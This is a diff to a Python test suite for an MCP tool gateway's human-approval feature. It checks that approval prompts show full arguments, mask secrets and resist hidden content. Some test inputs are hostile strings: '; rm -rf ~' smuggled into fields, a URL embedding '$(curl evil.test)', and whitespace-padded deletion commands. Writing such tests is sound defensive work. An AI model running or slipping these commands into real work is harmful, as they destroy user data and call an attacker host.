@@ -18,6 +18,7 @@ from switchboard_mcp.gateway.factory import open_gate
 from switchboard_mcp.gateway.gate import open_questions
 from switchboard_mcp.gateway.gate.arguments import AmbiguousArgumentsError, readings
 from switchboard_mcp.gateway.gate.open_questions import questions_folder, stored_questions, write_answer
+from switchboard_mcp.gateway.gate.signed_states import StateSigner
 from switchboard_mcp.gateway.pipeline.pipeline import attach_pipelines
 from switchboard_mcp.gateway.pipeline.plugins import LoadedMiddleware, NamedMiddleware
 from switchboard_mcp.middleware import Answer, Middleware, Next, ToolCall
@@ -244,7 +245,8 @@ def test_a_user_whose_host_cannot_ask_answers_in_a_shell(board: Board, home: Pat
     called = host.call("write", args={"password": "hunter2hunter2"})
     (waiting,) = open_in(home)
     assert (waiting.child, waiting.subtool, waiting.reason) == ("kid", "write", "It writes.")
-    assert "hunter2" not in waiting.arguments
+    assert waiting.arguments == '{"password":"hunter2hunter2"}'
+    assert "hunter2" not in waiting.text(masked=True)
     folder = questions_folder(FOLDER, {"HOME": str(home)})
     assert os.stat(folder).st_mode & 0o077 == 0
     write_answer(folder, waiting.id, allow=allow)
@@ -320,7 +322,7 @@ def test_a_command_asks_at_its_terminal(board: Board, answer: bool | None, code:
     host.session.approver = person
     called = host.call("write", args={"path": "/etc/x", "password": "hunter2"})
     assert "'write' of 'kid'" in person.questions[0]
-    assert "hunter2" not in person.questions[0]
+    assert '"password":"hunter2"' in person.questions[0]
     assert scene.reached() == 0
     person.answers[0](answer)
     board.settle()
@@ -489,11 +491,41 @@ def test_the_rules_hold_for_pins(board: Board) -> None:
     assert scene.reached() == 0
 
 
-def test_questions_hide_what_the_suite_redacts(board: Board) -> None:
+def test_what_a_host_may_not_see_whole_is_asked_where_the_user_sees_all_of_it(
+    board: Board, home: Path
+) -> None:
     Scene(board, [{"ask": "always"}], redact_args=["pin"])
+    hidden: list[Json] = [
+        {"pin": "4711-0815", "note": "the pin is 4711-0815"},
+        {"api_key": "; rm -rf ~"},
+        {"command": "x --password 'a; rm -rf ~'"},
+        {"url": "https://u:$(curl evil.test)@h/"},
+        {"content": "x" * 20_000 + "the end; rm -rf ~"},
+        {"items": [f"{n:04}" for n in range(2_000)]},
+        {"text": "a" + " " * 200 + "rm -rf ~"},
+    ]
+    missed = []
+    for number, args in enumerate(hidden):
+        host = board.host(ASKS)
+        host.call("write", args=args)
+        whole = json.dumps(args, separators=(",", ":"))
+        asked = [heard["params"]["message"] for heard in host.heard("elicitation/create")]
+        stored = [each.arguments for each in open_in(home)]
+        if not any(whole in shown for shown in asked or stored):
+            missed.append(number)
+    assert missed == []
     host = board.host(ASKS)
-    host.call("write", args={"pin": "4711-0815", "note": "the pin is 4711-0815"})
-    assert "4711" not in json.dumps(question(host))
+    host.call("write", args={"path": "a\u200b\u202eb"})
+    assert "a\\u200b\\u202eb" in question(host)["params"]["message"]
+
+
+def test_an_answer_of_a_host_counts_once_and_in_its_workspace() -> None:
+    signer, other = StateSigner(b"k" * 32, "/w"), StateSigner(b"k" * 32, "/v")
+    first, second = (signer.issue(b"call", "ann", 3, 100.0) for _ in range(2))
+    assert first != second
+    assert [one.rule_of(first, b"call", "ann", 1.0) for one in (signer, other)] == [3, None]
+    signer.use(first, 1.0)
+    assert [signer.rule_of(state, b"call", "ann", 1.0) for state in (first, second)] == [None, 3]
 
 
 @pytest.mark.parametrize("written", [b"allow\n", b"", b"0" * 64])
@@ -617,7 +649,7 @@ def test_long_arguments_do_not_hide_others_in_a_question(board: Board, junk: Jso
     assert '"path":"/etc/passwd"' in question(host)["params"]["message"]
 
 
-def test_a_question_about_large_arguments_is_written_outside_of_the_loop(board: Board) -> None:
+def test_a_question_about_large_arguments_is_written_outside_of_the_loop(board: Board, home: Path) -> None:
     Scene(board, [{"ask": "always"}])
     host = board.host(ASKS)
     arguments = {"action": "call", "subtool": "write", "args": {"content": "x" * 100_000, "path": "/p"}}
@@ -626,13 +658,14 @@ def test_a_question_about_large_arguments_is_written_outside_of_the_loop(board: 
 
     async def send() -> None:
         board.gateway.receive(host.session, host.road, json.dumps(message).encode())
-        assert not host.heard("elicitation/create")
+        assert not open_in(home)
 
     board.loop.run_until_complete(send())
     deadline = time.monotonic() + PATIENCE_S
-    while not host.heard("elicitation/create") and time.monotonic() < deadline:
+    while not open_in(home) and time.monotonic() < deadline:
         board.settle()
-    assert '"path":"/p"' in question(host)["params"]["message"]
+    (waiting,) = open_in(home)
+    assert json.loads(waiting.arguments) == {"content": "x" * 100_000, "path": "/p"}
 
 
 def test_a_client_that_calls_without_end_leaves_room_for_questions_of_others(
